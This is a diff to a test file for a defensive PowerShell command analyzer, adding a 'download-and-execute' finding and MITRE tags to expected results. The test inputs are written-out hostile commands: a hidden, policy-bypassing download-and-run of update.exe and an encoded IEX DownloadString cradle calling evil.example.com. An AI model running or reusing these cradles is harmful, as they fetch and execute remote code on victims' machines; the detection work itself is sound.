@@ -9,8 +9,9 @@ describe('analyzeCommand', () => {
       `powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile('http://203.0.113.45/update.exe','C:\\Users\\Public\\update.exe'); Start-Process C:\\Users\\Public\\update.exe"`,
     );
     expect(r.decoded).toBeNull();
-    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'hidden-window', 'no-profile', 'download-cradle', 'process-start']);
-    expect(r.findings[0]).toEqual({ id: 'execution-policy-bypass', evidence: '-ExecutionPolicy Bypass' });
+    // Issue 21: a download then a Start-Process of the downloaded file is also download-and-execute.
+    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'hidden-window', 'no-profile', 'download-cradle', 'process-start', 'download-and-execute']);
+    expect(r.findings[0]).toEqual({ id: 'execution-policy-bypass', evidence: '-ExecutionPolicy Bypass', mitre: 'T1059.001', layer: 'cmd' });
     expect(r.iocs).toEqual({ ips: ['203.0.113.45'], urls: ['http://203.0.113.45/update.exe'], domains: [], hashes: [] });
   });
 
@@ -18,7 +19,8 @@ describe('analyzeCommand', () => {
     const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";
     const r = analyzeCommand(`powershell ${flag} ${utf16b64(script)}`);
     expect(r.decoded).toBe(script);
-    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command', 'download-cradle', 'invoke-expression']);
+    // IEX of a DownloadString is also download-and-execute (issue 21).
+    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command', 'download-cradle', 'invoke-expression', 'download-and-execute']);
     expect(r.iocs.urls).toEqual(['http://evil.example.com/a.ps1']);
     expect(r.iocs.domains).toEqual(['evil.example.com']);
   });
@@ -46,6 +48,7 @@ describe('analyzeCommand', () => {
       'execution-policy-bypass',
       'download-cradle',
       'invoke-expression',
+      'download-and-execute',
     ]);
   });
 
